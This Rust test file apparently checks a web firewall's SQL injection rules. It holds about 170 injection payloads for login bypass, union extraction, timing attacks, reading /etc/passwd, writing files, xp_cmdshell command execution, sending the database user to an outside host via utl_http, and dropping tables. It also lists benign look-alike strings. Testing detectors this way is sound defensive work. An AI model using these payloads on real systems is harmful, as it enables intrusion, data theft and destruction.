//! Attacks and look-alikes, of our own writing.

use std::collections::BTreeMap;

use proptest::prelude::*;

use super::*;
use crate::inspect::rules::RuleFile;

/// What the rules of paranoia 1 make of a value.
fn score(part: Part, value: &[u8]) -> (u32, Vec<&'static str>) {
    let rules: BTreeMap<String, u32> = RuleFile::ready_made()
        .expect("rules")
        .into_iter()
        .map(|rule| (rule.id, if rule.paranoia == 1 { rule.score } else { 0 }))
        .collect();
    let lower = value.to_ascii_lowercase();
    let occurs = Bytes::of(value);
    let mut found = Found::default();
    let input = Input { bytes: value, lower: &lower, part, trail: b"q", is_name: false, occurs: &occurs };
    let literal = LITERALS.iter().any(|literal| memchr::memmem::find(&lower, literal.as_bytes()).is_some());
    if literal || wakes(&occurs) {
        run(&input, &mut found);
    }
    let ids: Vec<_> = found.evidence.iter().map(|(id, _)| *id).collect();
    let total = ids.iter().map(|id| *rules.get(*id).unwrap_or_else(|| panic!("no rule {id}"))).sum();
    (total, ids)
}

const ATTACKS: &[&str] = &[
    // Log-in without a password.
    "' or '1'='1",
    "' or 1=1-- ",
    "' or 1=1#",
    "' or 1=1/*",
    "') or ('a'='a",
    "')) or (('a'='a",
    "\" or \"\"=\"",
    "' or ''='",
    "admin'-- ",
    "admin' #",
    "admin'/*",
    "admin' or '1'='1'#",
    "admin') or '1'='1'--",
    "admin\" or 1=1 or \"\"=\"",
    "1' or '1' = '1",
    "x' or x=x or 'x'='y",
    "' or true--",
    "' or 1 -- -",
    "' or 2>1 --",
    "' or 'a' like 'a",
    "' or 1 in (1) --",
    "' or 1 between 0 and 2 --",
    "'='",
    "'-'",
    "'or'1'='1",
    "'||'1'='1",
    "' || 1=1 -- ",
    "' && 1=1 -- ",
    "\" oR 1=1 limit 1 -- -",
    "x' and 1=(select count(*) from tabname); --",
    "x' or full_name like '%bob%",
    "%' or '0'='0",
    "' or uname like '%",
    "'+or+1=1--",
    "\\' or 1=1 --",
    "' or exists(select 1) --",
    "' xor 1 --",
    "'/**/or/**/1=1#",
    "'%0bor%0b1=1",
    // Numbers.
    "1 or 1=1",
    "1 or 1=1 -- ",
    "-1 or 1",
    "1) or (1=1",
    "1)) or ((1=1",
    "0 or 2 like 2",
    "1||1=1",
    "1 && 1=1",
    "1 and 1=2",
    "7 and ascii(substring(user(),1,1))>64",
    "or 1=1",
    "and 1=0",
    "1/**/or/**/1=1",
    "1 or not 1=2",
    "1 or !(1=2)",
    "1 or 'a'='a'",
    "5 rlike (select 1)",
    "1e0or 1=1",
    // Queries joined.
    "1 union select 1,2,3",
    "-1 union all select null,null-- -",
    "' union select username, password from users--",
    "' UnIoN/**/sElEcT 1,2#",
    "1 union/*!50000 select*/ 1,2",
    "1 /*!50000union*/ /*!50000select*/ 1",
    "1 union(select 1)",
    "1 union distinct select @@version",
    "1\nunion\nselect\n1",
    "1\u{a0}union\u{a0}select\u{a0}1",
    "' union select sum(columnname) from tablename--",
    "null union select banner from v$version",
    "1 except select 1",
    "' and 1=2 union select 1,group_concat(table_name) from information_schema.tables where table_schema=database()-- -",
    // Order, group.
    "1 order by 10-- ",
    "1' order by 3#",
    "' group by userid having 1=1--",
    "1 having 1=1",
    "1' having 1=1--",
    "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
    "(select case when (1=1) then 1 else 2 end)",
    "case when 1=1 then name else price end",
    "if(1=1,name,price)",
    // Waits.
    "sleep(5)",
    "1 and sleep(5)",
    "1-sleep(5)",
    "1' and sleep(5)#",
    "' or sleep(5) or '",
    "'xor(if(now()=sysdate(),sleep(6),0))xor'z",
    "\"xor(if(now()=sysdate(),sleep(6),0))xor\"z",
    "0'xor(if(now()=sysdate(),sleep(15),0))xor'z",
    "(select(0)from(select(sleep(6)))v)/*'+(select(0)from(select(sleep(6)))v)+'\"+(select(0)from(select(sleep(6)))v)+\"*/",
    "1;waitfor delay '0:0:5'--",
    "1'; waitfor delay '0:0:5'--",
    "a' waitfor delay '0:0:10'--",
    "1);waitfor delay '0:0:5'--",
    "'; select pg_sleep(5)--",
    "1;select pg_sleep(5)",
    "1||pg_sleep(5)",
    "'||pg_sleep(5)--",
    "' || dbms_pipe.receive_message(('a'),5) || '",
    "1 and 1=dbms_pipe.receive_message('a',5)",
    "benchmark(5000000,md5(1))",
    "1 or benchmark(10000000,md5(1))#",
    "1 and 1=randomblob(500000000)",
    // Errors, files, other hosts.
    "1 and extractvalue(1,concat(0x7e,version()))",
    "' and updatexml(1,concat(0x7e,(select user())),1)-- ",
    "1 and (select 1 from (select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)a)",
    "1 and 1=convert(int,@@version)",
    "1 and 1=cast((select version()) as int)",
    "',''||utl_http.request('http://example.com/'||user),'",
    "1 and utl_inaddr.get_host_address((select user from dual))=1",
    "1 union select load_file('/etc/passwd')",
    "' union select 1 into outfile '/tmp/x.php'#",
    "1 into dumpfile '/tmp/x'",
    "load_file(0x2f6574632f706173737764)",
    "'; exec master..xp_cmdshell 'ping 10.0.0.1'--",
    "1;exec xp_cmdshell('dir')",
    "; exec sp_configure 'show advanced options',1",
    "1; copy t from program 'id'",
    "'; copy (select '') to program 'id'--",
    "1 and 1=(select 1 from dblink('host=x','select 1') as t(a int))",
    "1;select load_extension('//x/y','z')",
    // Statements behind a separator.
    "1; drop table users",
    "1;drop table users--",
    "'; drop table users;--",
    "x'; insert into users values (1,'a')--",
    "1; update users set admin=1",
    "1; delete from users",
    "1;declare @x varchar(99);set @x=0x61;exec(@x)",
    "'; shutdown with nowait;--",
    "1'; truncate table users#",
    "1; create user x identified by 'y'",
    "1; grant all on *.* to x",
    "';begin dbms_lock.sleep(5);end;--",
    "1;prepare s from 0x61;execute s",
    "1; handler users open",
    "'; execute immediate 'drop table t'--",
    // Expressions.
    "'+(select 1)+'",
    "'||(select user from dual)||'",
    "1*(select 1)",
    "1-(select count(*) from users)",
    "' and (select substring(password,1,1) from users limit 1)='a",
    "' || (select '') || '",
    "1' and ascii(lower(substring((select top 1 name from sysobjects where xtype='u'),1,1)))>116 --",
    "char(39)+or+1=1",
    "concat(0x27,0x6f72)",
    "@@version",
    "' or @@version like '5%",
    "1 and @@version>0",
    "' collate nocase or 1--",
    "(select password from users where id=1)",
    "1,(select user())",
    "1' and json_extract('{\"a\":1}','$.a')=1 and '1'='1",
    "'::int",
    "' and 1::int=1--",
    "1 and 1 is not null",
    "1 and (1)=(1)",
    "1' and '1'='2",
    "1%' and 1=1 and '%'='",
];

const HONEST: &[&str] = &[
    "O'Brien",
    "O'Brien or O'Hara",
    "D'Arcy and the boys' school",
    "the players' and coaches' room",
    "it's 5 o'clock; drop me a line",
    "rock 'n' roll",
    "Don't select all the options, or else",
    "select one from the list",
    "Please select one from the list, or type your own",
    "Select all that apply (select one or more)",
    "student union select committee",
    "the union selected a new president",
    "credit union all members",
    "where's the order by phone?",
    "order by 5 pm",
    "group by department",
    "update your profile set up",
    "drop table tennis",
    "delete from my list please",
    "insert into the slot",
    "Create table of contents",
    "having fun = winning",
    "this or that = fine",
    "and 1 more thing",
    "2 or 3 people",
    "5 and 10",
    "10 and 20% off",
    "between 1 and 10",
    "5'10\"",
    "6'2\" - 6'4\"",
    "10\" x 12\"",
    "16\" or 18\" necklace",
    "necklace length 16\" or 18\"",
    "the 'like' button",
    "use the '=' operator",
    "\"AND\" and \"OR\" gates",
    "press 'ctrl' + 'c'",
    "\"foo\" - \"bar\"",
    "C# and F#",
    "issue #12 -- see below",
    "--flag=value --dry-run",
    "a -- b",
    "x = y -- not sure",
    "/* comment */",
    "sleep(8) hours a night",
    "time.sleep(5)",
    "await sleep(100);",
    "version() is now 3",
    "user() returned null",
    "count(*) of items",
    "concat(a, b) in js",
    "if (x == 1) { return 'a'; }",
    "for (let i = 0; i < 10; i++) { a[i] = 'x'; }",
    "const x = a || b && c;",
    "SELECT * FROM users WHERE id = 1",
    "select id, name from accounts where name = 'Acme' order by created desc limit 10",
    "project = ABC AND status != Done ORDER BY created DESC",
    "assignee = currentUser() OR reporter = currentUser()",
    "status:500 AND NOT path:/healthz",
    "createdDateTime ge 2024-01-01T00:00:00Z and name eq 'x'",
    "sum(rate(http_requests_total{job=\"api\"}[5m])) by (instance)",
    "https://example.com/a?b=1&c='x'&d=2;e=3",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
    "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    "W/\"abc123\"",
    "\"33a64df551425fcc55e4d42a148795d9f25f89d4\"",
    "550e8400-e29b-41d4-a716-446655440000",
    "2024-01-01 -- 2024-02-01",
    "{\"a\": \"b\", \"c\": [1, 2]}",
    "'a','b','c'",
    "\"a\",\"b\"",
    "fields=id,name&sort=-created",
    "1,2,3",
    "-122.5,37.7",
    "(555) 123-4567",
    "+1 (555) 123-4567",
    "1 + 1 = 2",
    "x > 3 and y < 4",
    "temperature < 20 or > 30",
    "Tom & Jerry && friends",
    "user@example.com",
    "@octocat @hubot please look",
    "key: 'value' # a comment",
    "git commit -m 'fix' && git push -- origin",
    "Merge branch 'main' into feature; update docs",
    "merge from master",
    "fix: handle 'null' or 'undefined' values",
    "the user's table, or the admin's",
    "i can't; you can't; and 1 of us won't",
    "said 'yes' or 'no'",
    "`code` and `more code`",
    "Run `npm install` or `yarn`",
    "NULL",
    "true",
    "null or undefined",
    "is null",
    "not in stock",
    "call me; set a date; do it",
    "exec team meeting; who is coming?",
    "use it; begin now; print it",
    "It's like 5 or 6 o'clock -- maybe",
    "print('hello') # greet",
    "x = 'a' + 'b'",
    "assert a == 'b' or c == 'd'",
    "if name and value == '1' or x: pass",
    "print(\"%s\" % 'x', 'y')",
    "cast (iron) pan",
    "left (hand) side",
    "date (required)",
];

#[test]
fn attacks_are_stopped() {
    let missed: Vec<_> = ATTACKS
        .iter()
        .filter(|attack| {
            // As a gate would: percent-encoded controls are decoded before.
            let text = attack.replace("%0b", "\u{b}");
            score(Part::Query, text.as_bytes()).0 < 5
        })
        .map(|attack| (attack, score(Part::Query, attack.as_bytes())))
        .collect();
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn honest_values_pass() {
    let stopped: Vec<_> = HONEST
        .iter()
        .filter(|value| score(Part::Body, value.as_bytes()).0 >= 5)
        .map(|value| (value, score(Part::Body, value.as_bytes()).1))
        .collect();
    assert!(stopped.is_empty(), "{stopped:#?}");
}

#[test]
fn attacks_in_paths_are_stopped() {
    for path in ["/items/1 or 1=1", "/items/1' or '1'='1", "/a/b/1 union select 1,2", "/3;drop table t"] {
        assert!(score(Part::Path, path.as_bytes()).0 >= 5, "{path}");
    }
    for path in ["/repos/o'brien/x", "/a/b-c/d.rs", "/users/select/from/where", "/x;v=1/y"] {
        assert!(score(Part::Path, path.as_bytes()).0 < 5, "{path}");
    }
}

#[test]
fn an_attack_behind_a_long_value_is_stopped() {
    let long = format!("{} 1 union select 1,2", "word ".repeat(5_000));
    assert!(score(Part::Body, long.as_bytes()).0 >= 5);
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn any_bytes_are_read(value in proptest::collection::vec(any::<u8>(), 0..300)) {
        let _ = score(Part::Query, &value);
    }

    #[test]
    fn anything_like_sql_is_read(value in "['\"`()\\[\\]@#;,.*/!?:=<>|&+ \\\\a-z0-9\\-]{0,80}") {
        let _ = score(Part::Path, value.as_bytes());
    }

    #[test]
    fn spaces_and_case_do_not_matter(which in 0..ATTACKS.len(), upper in any::<bool>(), space in prop::sample::select(vec!["\t", "\n", "\r\n", "\u{b}", "\u{c}", "  "])) {
        let attack = ATTACKS[which].replace(' ', space);
        let attack = if upper { attack.to_ascii_uppercase() } else { attack };
        // A comment to the end of a line is one whatever ends it.
        prop_assume!(!attack.contains("--") && !attack.contains('#') && !attack.contains('%'));
        prop_assert!(score(Part::Query, attack.as_bytes()).0 >= 5, "{attack:?}");
    }
}

#[test]
fn most_honest_words_wake_nothing() {
    for value in [
        "hello",
        "Fix the build on main",
        "550e8400-e29b-41d4-a716-446655440000",
        "2024-01-01T00:00:00Z",
        "https://example.com/a/b",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
        "user@example.com",
        "O'Brien",
        "gzip, deflate, br",
        "application/json",
    ] {
        let literal = LITERALS.iter().any(|literal| value.to_ascii_lowercase().contains(literal));
        assert!(!literal && !wakes(&Bytes::of(value.as_bytes())), "{value}");
    }
}
